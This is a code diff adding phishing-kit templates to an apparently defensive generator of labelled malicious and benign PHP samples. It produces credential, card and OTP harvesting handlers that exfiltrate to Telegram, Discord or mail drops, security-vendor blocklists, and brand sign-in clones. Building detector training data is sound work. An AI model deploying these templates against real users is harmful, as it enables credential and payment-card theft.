@@ -928,5 +928,476 @@ def main():
         len(rows), sum(r[1] == "malicious" for r in rows), sum(r[1] == "benign" for r in rows), out, a.seed))
 
 
+# ===========================================================================
+# PHISHING KITS (section owned by the phishing work; webshell templates are
+# above). Invented from the genre, not from any sample: credential handlers
+# that send what the victim typed away (mail to a drop box, a text file
+# appended to, a Telegram bot, a Discord webhook), with the visitor's
+# fingerprint and a redirect to the real brand; anti-bot blockers; landing
+# copiers; brand sign-in clones. Each crossed with transforms: renamed fields,
+# another exfil channel, the destination in a separate config file,
+# obfuscated strings, the whole handler inside an eval layer. Then the benign
+# look-alikes of real sites that must stay quiet (no high/critical).
+# Brand names and hosts are the real brands' (a clone names them); every drop
+# address, token and chat id is invented.
+
+PH_USER_KEYS = ["email", "login", "username", "user", "userid", "emailaddress", "Email", "ai", "u", "log",
+                "loginfmt", "account"]
+PH_PASS_KEYS = ["password", "pass", "passwd", "pwd", "Passwd", "psw", "login_password", "userPassword",
+                "pass1", "psswd", "pw", "ps", "secret"]
+PH_CARD_KEYS = [["ccnum", "cvv", "expdate"], ["cardnumber", "cvv2", "exp_month", "exp_year"],
+                ["card_number", "csc", "expiry", "ssn"], ["cc", "cvc", "exp", "atm_pin"],
+                ["cnum", "code3", "mm_yy", "dob", "mmn"]]
+PH_OTP_KEYS = ["otp", "sms_code", "smscode", "code", "verification_code", "pin", "token2fa"]
+PH_BRANDS = [("PayPal", "https://www.paypal.com/signin"), ("Microsoft Office 365", "https://login.microsoftonline.com/"),
+             ("Apple ID", "https://appleid.apple.com/"), ("Netflix", "https://www.netflix.com/login"),
+             ("DHL Express", "https://www.dhl.com/"), ("Wells Fargo", "https://connect.secure.wellsfargo.com/"),
+             ("Outlook Web App", "https://outlook.live.com/"), ("Chase", "https://secure.chase.com/"),
+             ("Coinbase", "https://www.coinbase.com/signin"), ("Roundcube Webmail", "https://mail.example.org/"),
+             ("Dropbox", "https://www.dropbox.com/login"), ("Amazon", "https://www.amazon.com/ap/signin")]
+PH_DROPS = ["resultbox%d@gmail.com", "jonnylogs%d@yandex.com", "kingrezult%d@outlook.com", "boxdrop%d@protonmail.com",
+            "m0ney%d@yahoo.com", "logs%d@mail.ru"]
+
+
+def ph_key(g, pool, renamed):
+    """A field name; 'renamed' takes one nobody would guess (f3, inp_x...)."""
+    r = g.rng
+    if renamed:
+        return r.choice(["f%d" % r.randint(1, 9), "inp_%s" % g.ident().lower()[:4], "x%d" % r.randint(1, 99), "fld"])
+    return r.choice(pool)
+
+
+def ph_post(g, k):
+    r = g.rng
+    m = r.choice(["$_POST", "$_POST", "$_POST", "$_REQUEST", "$_GET"])
+    e = "%s[%s]" % (m, g.lit(k))
+    if r.random() < 0.3:
+        e = "%s(%s)" % (g.fn(r.choice(["trim", "stripslashes", "htmlspecialchars"])), e)
+    return e
+
+
+def ph_fingerprint(g):
+    """Statements that learn who the visitor is; returns the label -> variable pairs."""
+    r = g.rng
+    ip, ua = g.var(), g.var()
+    out = []
+    if r.random() < 0.5:
+        g.stmt("%s = %s(%s);" % (ip, g.fn("getenv"), g.lit("REMOTE_ADDR")))
+    else:
+        g.stmt("%s = $_SERVER[%s];" % (ip, g.lit("REMOTE_ADDR")))
+    out.append(("IP", ip))
+    if r.random() < 0.8:
+        g.stmt("%s = $_SERVER[%s];" % (ua, g.lit("HTTP_USER_AGENT")))
+        out.append(("Browser", ua))
+    x = r.randrange(4)
+    if x == 0:
+        h = g.var()
+        g.stmt("%s = %s(%s);" % (h, g.fn("gethostbyaddr"), ip))
+        out.append(("Hostname", h))
+    elif x >= 1:
+        j, c = g.var(), g.var()
+        url = r.choice(["http://www.geoplugin.net/json.gp?ip=", "http://ip-api.com/json/", "https://ipinfo.io/"])
+        field = {"http://www.geoplugin.net/json.gp?ip=": "geoplugin_countryName", "http://ip-api.com/json/": "country",
+                 "https://ipinfo.io/": "country"}[url]
+        tail = " . '/json'" if "ipinfo" in url else ""
+        g.stmt("%s = %s(%s(%s . %s%s));" % (j, g.fn("json_decode"), g.fn("file_get_contents"),
+                                            g.enc(url, allow=["plain", "plain", "concat"]), ip, tail))
+        g.stmt("%s = %s->%s;" % (c, j, field))
+        out.append(("Country", c))
+        g.transforms.add("geo")
+    return out
+
+
+def ph_message(g, pairs, title):
+    """Build the report text from (label, expression) pairs, in one of several styles."""
+    r = g.rng
+    m = g.var()
+    style = r.randrange(4)
+    g.transforms.add("msg:" + ["concat", "interp", "sprintf", "implode"][style])
+    if style == 0:
+        lines = ["%s = %s;" % (m, g.lit("--------- %s ---------\n" % title))]
+        for lab, e in pairs:
+            lines.append("%s .= %s . %s . \"\\n\";" % (m, g.lit(lab + " : "), e))
+        return m, "\n".join(lines)
+    if style == 1:
+        lines = []
+        vs = []
+        for lab, e in pairs:
+            if e.startswith("$") and "[" not in e and "(" not in e:
+                vs.append((lab, e))
+            else:
+                v = g.var()
+                lines.append("%s = %s;" % (v, e))
+                vs.append((lab, v))
+        body = "\\n".join("%s: {%s}" % (lab, v) for lab, v in vs)
+        lines.append("%s = \"== %s ==\\n%s\\n\";" % (m, title, body))
+        return m, "\n".join(lines)
+    if style == 2:
+        fmt = "\\n".join("%s: %%s" % lab for lab, _ in pairs)
+        return m, "%s = %s(\"%s\\n\", %s);" % (m, g.fn("sprintf"), fmt, ", ".join(e for _, e in pairs))
+    a = g.var()
+    items = ", ".join("%s . %s" % (g.lit(lab + "=> "), e) for lab, e in pairs)
+    return m, "%s = array(%s);\n%s = %s(\"\\n\", %s);" % (a, items, m, g.fn("implode"), a)
+
+
+def ph_exfil(g, m, title, split):
+    """Send the message away. split: the drop address / token come from a config file."""
+    r = g.rng
+    ch = r.choice(["mail", "mail", "append", "fpc", "telegram", "telegram_curl", "discord"])
+    g.transforms.add("exfil:" + ch)
+    if split:
+        g.transforms.add("split-config")
+        g.stmt("%s %s;" % (r.choice(["include", "require", "require_once"]),
+                           g.lit(r.choice(["config.php", "../settings.php", "email.php", "tg.php"]))))
+    if ch == "mail":
+        to = "$" + r.choice(["to", "send", "recipient", "receiver", "owner", "ur_email"])
+        if not split:
+            g.stmt("%s = %s;" % (to, g.enc(r.choice(PH_DROPS) % r.randint(1, 99), allow=["plain", "plain", "concat", "base64", "strrev"])))
+        hdr = g.var()
+        return ("%s = \"From: %s <noreply@%s>\\r\\n\";\n%s%s(%s, %s . \" - \" . %s, %s, %s);"
+                % (hdr, title, r.choice(["secure.net", "server.com", "localhost"]), g.at(), g.fn("mail"), to,
+                   g.lit(title), "$_SERVER['REMOTE_ADDR']", m, hdr))
+    if ch in ("append", "fpc"):
+        path = g.lit(r.choice(["results.txt", "../rez/log.txt", "data/visits.txt", ".logs.html", "cc.txt"]))
+        if ch == "append":
+            h = g.var()
+            return "%s = %s(%s, %s);\n%s(%s, %s);\n%s(%s);" % (h, g.fn("fopen"), path, g.lit(r.choice(["a", "a+", "ab"])),
+                                                            g.fn(r.choice(["fwrite", "fputs"])), h, m, g.fn("fclose"), h)
+        return "%s%s(%s, %s, FILE_APPEND);" % (g.at(), g.fn("file_put_contents"), path, m)
+    if ch in ("telegram", "telegram_curl"):
+        tok, chat = "$" + r.choice(["token", "bot_token", "tgtoken"]), "$" + r.choice(["chat_id", "chatid", "id"])
+        if not split:
+            g.stmt("%s = %s;" % (tok, g.lit("%d:AA%s" % (r.randint(10 ** 8, 10 ** 9), g.ident()[:6] + "xQ7kLmN2pR"))))
+            g.stmt("%s = %s;" % (chat, g.lit(str(r.randint(10 ** 8, 10 ** 10)))))
+        api = g.enc("https://api.telegram.org/bot", allow=["plain", "plain", "concat", "base64"])
+        if ch == "telegram":
+            return "%s(%s . %s . \"/sendMessage?chat_id=\" . %s . \"&text=\" . %s(%s));" % (
+                g.fn("file_get_contents"), api, tok, chat, g.fn("urlencode"), m)
+        c = g.var()
+        return ("%s = %s(%s . %s . '/sendMessage');\n%s(%s, CURLOPT_POST, 1);\n"
+                "%s(%s, CURLOPT_POSTFIELDS, array('chat_id' => %s, 'text' => %s));\n"
+                "%s(%s, CURLOPT_RETURNTRANSFER, true);\n%s(%s);\n%s(%s);"
+                % (c, g.fn("curl_init"), api, tok, g.fn("curl_setopt"), c, g.fn("curl_setopt"), c, chat, m,
+                   g.fn("curl_setopt"), c, g.fn("curl_exec"), c, g.fn("curl_close"), c))
+    hook = "$" + r.choice(["webhook", "hook", "discord"])
+    if not split:
+        g.stmt("%s = %s;" % (hook, g.enc("https://discord.com/api/webhooks/%d/%s" % (r.randint(10 ** 17, 10 ** 18), g.ident() + "Zk3"),
+                                         allow=["plain", "concat", "strrev"])))
+    c = g.var()
+    return ("%s = %s(%s);\n%s(%s, CURLOPT_HTTPHEADER, array('Content-Type: application/json'));\n"
+            "%s(%s, CURLOPT_POSTFIELDS, %s(array('content' => %s)));\n%s(%s);"
+            % (c, g.fn("curl_init"), hook, g.fn("curl_setopt"), c, g.fn("curl_setopt"), c, g.fn("json_encode"), m,
+               g.fn("curl_exec"), c))
+
+
+def ph_redirect(g, url):
+    r = g.rng
+    x = r.randrange(4)
+    if x == 0:
+        return "%s(%s);\nexit;" % (g.fn("header"), g.lit("Location: " + url))
+    if x == 1:
+        return "%s(\"Location: %s\");" % (g.fn("header"), url)
+    if x == 2:
+        return "echo %s;" % g.lit("<script>window.location.href='%s';</script>" % url)
+    return "%s(%s);" % (g.fn("header"), g.lit("Location: " + r.choice(["step2.php", "verify.php?session=1", "loading.php"])))
+
+
+def ph_handler(g, fields, title):
+    """The common body of a result script: fields, fingerprint, message, send, redirect."""
+    r = g.rng
+    brand, url = r.choice(PH_BRANDS)
+    pairs = [(lab, ph_post(g, k)) for lab, k in fields]
+    pairs += ph_fingerprint(g)
+    pre = g.take()
+    m, build = ph_message(g, pairs, title % brand if "%s" in title else title)
+    send = ph_exfil(g, m, brand, split=r.random() < 0.25)
+    if r.random() < 0.3:
+        send += "\n" + ph_exfil(g, m, brand, split=False)  # kits often send twice
+    pre += g.take()
+    if r.random() < 0.3:
+        pre.insert(0, "session_start();")
+    body = "\n".join(pre) + "\n" + build + "\n" + send + "\n" + ph_redirect(g, url)
+    if r.random() < 0.15:  # the whole handler as an eval layer, as kit sellers ship them
+        layer, kind = gz_layer(body, r)
+        g.transforms.add("eval-layer:" + kind)
+        body = "%s(%s);" % (g.fn("eval"), layer)
+    return php_file(g, body)
+
+
+def p_login_result(g):
+    r = g.rng
+    ren = r.random() < 0.2
+    if ren:
+        g.transforms.add("renamed-fields")
+    fields = [("Email", ph_key(g, PH_USER_KEYS, ren)), ("Password", ph_key(g, PH_PASS_KEYS, ren))]
+    if r.random() < 0.3:
+        fields.append(("Password (again)", ph_key(g, PH_PASS_KEYS, ren) + "2"))
+    return ph_handler(g, fields, r.choice(["%s Login", "ReZulT %s", "New Log %s", "%s Account"]))
+
+
+def p_card_result(g):
+    r = g.rng
+    ren = r.random() < 0.2
+    if ren:
+        g.transforms.add("renamed-fields")
+    keys = r.choice(PH_CARD_KEYS)
+    labels = ["Card Number", "CVV", "Expiry", "Extra", "Extra2"]
+    fields = [("Name on card", ph_key(g, ["cardholder", "fullname", "name"], ren))]
+    fields += [(labels[i], ph_key(g, [k], ren)) for i, k in enumerate(keys)]
+    return ph_handler(g, fields, r.choice(["%s Billing", "CC %s", "Fullz %s", "%s Card"]))
+
+
+def p_otp_relay(g):
+    r = g.rng
+    ren = r.random() < 0.2
+    if ren:
+        g.transforms.add("renamed-fields")
+    fields = [("Email", ph_key(g, PH_USER_KEYS, ren)), ("OTP", ph_key(g, PH_OTP_KEYS, ren))]
+    return ph_handler(g, fields, r.choice(["%s OTP", "2FA code %s", "%s SMS"]))
+
+
+def p_post_dump(g):
+    """Every posted field, whatever it is called, into the message: no key to see."""
+    r = g.rng
+    g.transforms.add("post-dump")
+    fp = ph_fingerprint(g)
+    pre = g.take()
+    m, k, v = g.var(), g.var(), g.var()
+    brand, url = r.choice(PH_BRANDS)
+    build = "%s = %s;\nforeach ($_POST as %s => %s) {\n    %s .= %s . \": \" . %s . \"\\n\";\n}\n" % (
+        m, g.lit("+++ %s +++\n" % brand), k, v, m, k, v)
+    build += "\n".join("%s .= %s . %s . \"\\n\";" % (m, g.lit(lab + ": "), e) for lab, e in fp)
+    send = ph_exfil(g, m, brand, split=r.random() < 0.25)
+    pre += g.take()
+    return php_file(g, "\n".join(pre) + "\n" + build + "\n" + send + "\n" + ph_redirect(g, url))
+
+
+PH_VENDOR_HOSTS = ["phishtank", "netcraft", "paypal", "google", "amazonaws", "kaspersky", "bitdefender", "trendmicro",
+                   "symantec", "mcafee", "sophos", "fortinet", "cyveillance", "spamhaus", "virustotal", "urlscan",
+                   "msnbot", "bingbot", "yandex", "above.net", "softlayer", "digitalocean", "ovh", "tor-exit"]
+PH_BOT_UAS = ["bot", "crawler", "spider", "curl", "wget", "python-requests", "scan", "phish", "headless", "archiver"]
+
+
+def p_antibot(g):
+    r = g.rng
+    ip, host, ua = g.var(), g.var(), g.var()
+    hosts = r.sample(PH_VENDOR_HOSTS, r.randint(6, 14))
+    nets = ["%d.%d." % (r.choice([64, 66, 72, 74, 207, 209, 216, 38, 157]), r.randint(0, 255)) for _ in range(r.randint(8, 20))]
+    uas = r.sample(PH_BOT_UAS, r.randint(4, 8))
+    deny = r.choice(["%s(%s);\n    exit;" % (g.fn("header"), g.lit("HTTP/1.0 404 Not Found")),
+                     "%s(%s);\n    %s;" % (g.fn("header"), g.lit("Location: https://www.google.com/"), r.choice(["exit", "die()"])),
+                     "%s(403);\n    die(%s);" % (g.fn("http_response_code"), g.lit("<h1>403 Forbidden</h1>"))])
+    lines = ["%s = $_SERVER[%s];" % (ip, g.lit("REMOTE_ADDR")),
+             "%s = %s(%s);" % (host, g.fn("gethostbyaddr"), ip),
+             "%s = %s($_SERVER[%s]);" % (ua, g.fn("strtolower"), g.lit("HTTP_USER_AGENT"))]
+    hv, nv, uv, w = g.var(), g.var(), g.var(), g.var()
+    lines.append("%s = array(%s);" % (hv, ", ".join(g.lit(h) for h in hosts)))
+    lines.append("%s = array(%s);" % (nv, ", ".join(g.lit(n) for n in nets)))
+    lines.append("%s = array(%s);" % (uv, ", ".join(g.lit(u) for u in uas)))
+    style = r.randrange(2)
+    if style == 0:
+        lines.append("foreach (%s as %s) {\n    if (%s(%s, %s) !== false) {\n    %s\n    }\n}" % (hv, w, g.fn("stripos"), host, w, deny))
+        lines.append("foreach (%s as %s) {\n    if (%s(%s, %s) === 0) {\n    %s\n    }\n}" % (nv, w, g.fn("strpos"), ip, w, deny))
+        lines.append("foreach (%s as %s) {\n    if (%s(%s, %s) !== false) {\n    %s\n    }\n}" % (uv, w, g.fn("strpos"), ua, w, deny))
+    else:
+        lines.append("if (%s(\"/\" . %s(\"|\", %s) . \"/i\", %s) || %s(\"/^(\" . %s(\"|\", %s) . \")/\", %s)) {\n    %s\n}" % (
+            g.fn("preg_match"), g.fn("implode"), hv, host, g.fn("preg_match"), g.fn("implode"), nv, ip, deny))
+        lines.append("foreach (%s as %s) {\n    if (%s(%s, %s)) {\n    %s\n    }\n}" % (uv, w, g.fn("stristr"), ua, w, deny))
+    return php_file(g, "\n".join(lines))
+
+
+def p_landing_copy(g):
+    r = g.rng
+    d, src, fn_ = g.var(), g.lit(r.choice(["page", "login", "secure", "app"])), g.fname()
+    a, b, f = g.var(), g.var(), g.var()
+    rnd = r.choice(["md5(rand())", "substr(md5(uniqid()), 0, 12)", "md5(microtime() . rand(0, 99999))",
+                    "sha1(time() . mt_rand())", "bin2hex(random_bytes(6))"])
+    body = ("function %s(%s, %s)\n{\n    @mkdir(%s);\n    foreach (scandir(%s) as %s) {\n"
+            "        if (%s == '.' || %s == '..') continue;\n"
+            "        if (is_dir(%s . '/' . %s)) { %s(%s . '/' . %s, %s . '/' . %s); }\n"
+            "        else { copy(%s . '/' . %s, %s . '/' . %s); }\n    }\n}\n"
+            % (fn_, a, b, b, a, f, f, f, a, f, fn_, a, f, b, f, a, f, b, f))
+    body += "%s = %s;\n%s(%s, %s);\n" % (d, rnd, fn_, src, d)
+    q = r.choice(["", " . '?email=' . $_GET['email']", " . '/?' . $_SERVER['QUERY_STRING']"])
+    body += "%s(\"Location: \" . %s%s);\n" % (g.fn("header"), d, q)
+    return php_file(g, body)
+
+
+def ph_login_html(g, brand, action, prefill):
+    r = g.rng
+    return verbatim(
+        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Sign in - %s</title>\n"
+        "<link rel=\"icon\" href=\"favicon.ico\"></head>\n<body class=\"login\">\n<div class=\"box\">\n"
+        "<img src=\"images/logo.png\" alt=\"%s\">\n<h1>%s</h1>\n"
+        "<form method=\"%s\" action=\"%s\" id=\"f1\">\n"
+        "<input type=\"%s\" name=\"%s\" placeholder=\"Email or phone\" value=\"%s\" required>\n"
+        "<input type=\"password\" name=\"%s\" placeholder=\"Password\" required>\n"
+        "<button type=\"submit\">%s</button>\n</form>\n<p class=\"small\">&copy; %d %s</p>\n</div>\n</body></html>\n"
+        % (brand, brand, r.choice(["Sign in", "Verify your account", "Confirm your identity", "Session expired, please log in again"]),
+           r.choice(["post", "POST"]), action, r.choice(["email", "text"]), r.choice(PH_USER_KEYS), prefill,
+           r.choice(PH_PASS_KEYS), r.choice(["Sign in", "Next", "Continue", "Verify"]), r.randint(2019, 2025), brand))
+
+
+def p_login_clone_html(g):
+    r = g.rng
+    brand, _ = r.choice(PH_BRANDS)
+    action = r.choice(["post.php", "next.php", "login.php", "send/mail.php", "verify.php", "https://drop.example-host.ru/g.php"])
+    return strip_marks(ph_login_html(g, brand, action, ""))
+
+
+def p_session_expired(g):
+    """cPanel/webmail 'session expired' page with the victim's address filled in from the link."""
+    r = g.rng
+    brand = r.choice(["cPanel Webmail", "Roundcube Webmail", "Zimbra Web Client", "Outlook Web App", "Webmail"])
+    pre = r.choice(["<?php echo $_GET['email']; ?>", "<?= htmlspecialchars($_GET['e']) ?>",
+                    "<?php echo @$_REQUEST['login']; ?>"])
+    act = r.choice(["auth.php", "index2.php", "post.php"])
+    head = r.choice(["", "<?php include 'antibot.php'; ?>\n", "<?php require_once('blocker.php'); ?>\n",
+                     "<?php session_start(); ?>\n"])
+    return head + strip_marks(ph_login_html(g, brand, act, pre))
+
+
+# ---- benign look-alikes of real sites
+
+
+def pb_contact_form(g):
+    r = g.rng
+    owner = r.choice(["info@example.com", "office@acme-bakery.example", "support@example.org"])
+    body = ("if ($_SERVER['REQUEST_METHOD'] !== 'POST') {\n    header('Location: contact.html');\n    exit;\n}\n"
+            "$name = trim(strip_tags($_POST['name'] ?? ''));\n$email = filter_var($_POST['email'] ?? '', FILTER_VALIDATE_EMAIL);\n"
+            "$message = trim($_POST['message'] ?? '');\nif (!$email || $name === '' || $message === '') {\n"
+            "    exit('Please fill in every field.');\n}\n"
+            "$body = \"Name: \" . $name . \"\\nEmail: \" . $email . \"\\n\\n\" . $message . \"\\n\\nIP: \" . $_SERVER['REMOTE_ADDR'] . \"\\nBrowser: \" . $_SERVER['HTTP_USER_AGENT'];\n"
+            "mail(%s, 'Website contact: ' . $name, $body, 'Reply-To: ' . $email);\n"
+            "header('Location: %s');\n" % (php_sq(owner), r.choice(["thanks.html", "https://www.example.com/thank-you/"])))
+    return php_file(g, body)
+
+
+def pb_login_handler(g):
+    r = g.rng
+    u = r.choice(["username", "email", "login"])
+    body = ("session_start();\nrequire __DIR__ . '/db.php';\n"
+            "$user = $_POST['%s'] ?? '';\n$pass = $_POST['%s'] ?? '';\n"
+            "$st = $pdo->prepare('SELECT id, password_hash FROM users WHERE %s = ?');\n$st->execute(array($user));\n"
+            "$row = $st->fetch();\nif ($row && password_verify($pass, $row['password_hash'])) {\n"
+            "    session_regenerate_id(true);\n    $_SESSION['uid'] = $row['id'];\n    header('Location: /dashboard.php');\n    exit;\n}\n"
+            "$fh = fopen(__DIR__ . '/logs/auth.log', 'a');\n"
+            "fwrite($fh, date('c') . ' failed login for ' . $user . ' from ' . $_SERVER['REMOTE_ADDR'] . \"\\n\");\nfclose($fh);\n"
+            "header('Location: /login.php?error=1');\n" % (u, r.choice(["password", "pass", "pwd"]), u))
+    return php_file(g, body)
+
+
+def pb_newsletter_signup(g):
+    body = ("require 'db.php';\n$email = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);\nif (!$email) {\n    exit('invalid address');\n}\n"
+            "$token = bin2hex(random_bytes(16));\n"
+            "$pdo->prepare('INSERT INTO subscribers (email, token, ip, created) VALUES (?, ?, ?, NOW())')->execute(array($email, $token, $_SERVER['REMOTE_ADDR']));\n"
+            "$link = 'https://www.example.com/confirm.php?t=' . $token;\n"
+            "mail($email, 'Please confirm your subscription', \"Click to confirm: \" . $link, 'From: news@example.com');\n"
+            "header('Location: https://www.example.com/newsletter/thanks');\n")
+    return php_file(g, body)
+
+
+def pb_geo_analytics(g):
+    r = g.rng
+    body = ("function acme_visit_country($ip)\n{\n    $cache = __DIR__ . '/cache/geo-' . md5($ip);\n"
+            "    if (is_file($cache)) {\n        return file_get_contents($cache);\n    }\n"
+            "    $j = json_decode(@file_get_contents('%s' . urlencode($ip)), true);\n"
+            "    $c = isset($j['country']) ? $j['country'] : '??';\n    file_put_contents($cache, $c);\n    return $c;\n}\n"
+            "$ip = $_SERVER['REMOTE_ADDR'];\n$line = date('c') . \"\\t\" . $ip . \"\\t\" . acme_visit_country($ip) . \"\\t\" . $_SERVER['HTTP_USER_AGENT'] . \"\\t\" . $_SERVER['REQUEST_URI'] . \"\\n\";\n"
+            "file_put_contents(__DIR__ . '/stats/visits.log', $line, FILE_APPEND | LOCK_EX);\n"
+            % r.choice(["http://ip-api.com/json/", "https://ipinfo.io/json?ip=", "http://www.geoplugin.net/json.gp?ip="]))
+    return php_file(g, body)
+
+
+def pb_badbot_blocker(g):
+    r = g.rng
+    bots = r.sample(["AhrefsBot", "SemrushBot", "MJ12bot", "DotBot", "BLEXBot", "PetalBot", "Bytespider", "MegaIndex",
+                     "SeznamBot", "serpstatbot", "DataForSeoBot"], 6)
+    body = ("/* Plugin Name: Bad Bot Blocker - blocks aggressive SEO crawlers that ignore robots.txt */\n"
+            "function bbb_block_bots()\n{\n    $ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n"
+            "    $bots = array(%s);\n    foreach ($bots as $b) {\n        if (stripos($ua, $b) !== false) {\n"
+            "            status_header(403);\n            error_log('bbb: blocked ' . $b . ' from ' . $_SERVER['REMOTE_ADDR']);\n            exit;\n        }\n    }\n}\n"
+            "add_action('init', 'bbb_block_bots');\n" % ", ".join(php_sq(b) for b in bots))
+    return php_file(g, body)
+
+
+def pb_password_reset(g):
+    body = ("require 'bootstrap.php';\n$email = filter_var($_POST['email'] ?? '', FILTER_VALIDATE_EMAIL);\n"
+            "$user = $email ? User::findByEmail($email) : null;\nif ($user) {\n    $token = bin2hex(random_bytes(32));\n"
+            "    $user->saveResetToken(hash('sha256', $token), time() + 3600);\n"
+            "    $msg = \"Someone asked to reset the password of your account.\\n\" .\n"
+            "        \"Reset it here: https://www.example.com/reset.php?t=\" . $token . \"\\n\" .\n"
+            "        \"Requested from IP \" . $_SERVER['REMOTE_ADDR'] . \". If it was not you, ignore this mail.\";\n"
+            "    mail($user->email, 'Password reset', $msg, 'From: no-reply@example.com');\n}\n"
+            "header('Location: /login.php?reset=sent');\n")
+    return php_file(g, body)
+
+
+def pb_payment_gateway(g):
+    r = g.rng
+    body = ("require 'vendor/autoload.php';\nsession_start();\n"
+            "$payload = array(\n    'amount' => (int) $_SESSION['cart_total'],\n    'currency' => 'eur',\n"
+            "    'card' => array('number' => $_POST['cardnumber'], 'cvc' => $_POST['cvc'], 'exp' => $_POST['exp']),\n"
+            "    'description' => 'Order ' . $_SESSION['order_id'],\n);\n"
+            "$ch = curl_init('https://api.%s/v1/charges');\ncurl_setopt($ch, CURLOPT_USERPWD, getenv('GATEWAY_KEY') . ':');\n"
+            "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($payload));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n"
+            "$res = json_decode(curl_exec($ch), true);\n"
+            "mail('shop@example.com', 'New order ' . $_SESSION['order_id'], 'Paid: ' . $res['status'] . ' from ' . $_SERVER['REMOTE_ADDR']);\n"
+            "header('Location: https://shop.example.com/receipt.php?o=' . urlencode($_SESSION['order_id']));\n"
+            % r.choice(["paygate.example", "payments.example.net", "checkout.example.com"]))
+    return php_file(g, body)
+
+
+def pb_telegram_orders(g):
+    body = ("$token = getenv('TG_TOKEN');\n$chat = getenv('TG_CHAT');\n"
+            "$text = \"New order\\nName: \" . $_POST['name'] . \"\\nPhone: \" . $_POST['phone'] . \"\\nAddress: \" . $_POST['address'];\n"
+            "file_get_contents('https://api.telegram.org/bot' . $token . '/sendMessage?chat_id=' . $chat . '&text=' . urlencode($text));\n"
+            "header('Location: /thanks.html');\n")
+    return php_file(g, body)
+
+
+def pb_register(g):
+    body = ("require 'db.php';\n$u = trim($_POST['username']);\n$e = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);\n"
+            "$p = $_POST['password'];\nif (strlen($p) < 10 || !$e) {\n    exit('weak password or bad address');\n}\n"
+            "$pdo->prepare('INSERT INTO users (username, email, password_hash, ip) VALUES (?, ?, ?, ?)')\n"
+            "    ->execute(array($u, $e, password_hash($p, PASSWORD_DEFAULT), $_SERVER['REMOTE_ADDR']));\n"
+            "mail($e, 'Welcome', \"Hello \" . $u . \", your account is ready. Your password is the one you chose.\");\n"
+            "header('Location: https://www.example.com/welcome');\n")
+    return php_file(g, body)
+
+
+def pb_real_login_page(g):
+    """A real application's own sign-in page: a brand (its own), a password field, a local action."""
+    r = g.rng
+    app = r.choice(["Acme Intranet", "Roundcube Webmail", "phpMyAdmin", "Nextcloud"])
+    return ("<?php\nrequire 'lib/session.php';\n$csrf = csrf_token();\n?>\n"
+            + strip_marks(ph_login_html(g, app, "login.php", "")).replace(
+                "</form>", "<input type=\"hidden\" name=\"csrf\" value=\"<?php echo $csrf; ?>\">\n</form>"))
+
+
+PHISH_TEMPLATES = [
+    ("kit_login_result", p_login_result, "malicious", "php", "high"),
+    ("kit_card_result", p_card_result, "malicious", "php", "high"),
+    ("kit_otp_relay", p_otp_relay, "malicious", "php", "high"),
+    ("kit_post_dump", p_post_dump, "malicious", "php", "any"),
+    ("kit_antibot", p_antibot, "malicious", "php", "any"),
+    ("kit_landing_copy", p_landing_copy, "malicious", "php", "any"),
+    ("kit_login_clone", p_login_clone_html, "malicious", "html", "any"),
+    ("kit_session_expired", p_session_expired, "malicious", "php", "any"),
+    ("contact_form", pb_contact_form, "benign", "php", "none"),
+    ("login_handler", pb_login_handler, "benign", "php", "none"),
+    ("newsletter_signup", pb_newsletter_signup, "benign", "php", "none"),
+    ("geo_analytics", pb_geo_analytics, "benign", "php", "none"),
+    ("badbot_blocker", pb_badbot_blocker, "benign", "php", "none"),
+    ("password_reset", pb_password_reset, "benign", "php", "none"),
+    ("payment_gateway", pb_payment_gateway, "benign", "php", "none"),
+    ("telegram_orders", pb_telegram_orders, "benign", "php", "none"),
+    ("register", pb_register, "benign", "php", "none"),
+    ("real_login_page", pb_real_login_page, "benign", "php", "none"),
+]
+TEMPLATES += PHISH_TEMPLATES
+# ==================================================== end of PHISHING KITS
+
+
 if __name__ == "__main__":
     main()
